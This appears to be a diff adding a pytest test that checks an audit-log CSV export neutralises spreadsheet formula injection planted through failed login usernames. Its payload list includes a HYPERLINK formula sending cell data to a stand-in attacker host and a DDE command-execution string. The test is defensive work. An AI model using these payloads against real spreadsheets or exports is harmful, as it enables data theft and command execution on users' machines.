@@ -243,3 +243,30 @@ def test_resource_id_zero_is_kept(owner):
         == "0"
     )
     assert audit_record(action="test.none", actor=owner, resource_type="thing").resource_id == ""
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("username", FORMULAS)
+def test_csv_export_neutralises_formulas_planted_without_an_account(
+    api, page, admin_user, username
+):
+    response = api(None).post(
+        "/api/auth/login", {"username": username, "password": "wrong-pass-x"}, format="json"
+    )
+    assert response.status_code == 401
+    stored = AuditEvent.objects.filter(action="auth.login").latest("seq").actor_username
+    assert stored[:1] in ("=", "+", "-", "@", "\t", "\r")  # the login keeps what was typed
+    export = page(admin_user).get("/audit/export.csv")
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + stored in cells  # still readable, as text
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
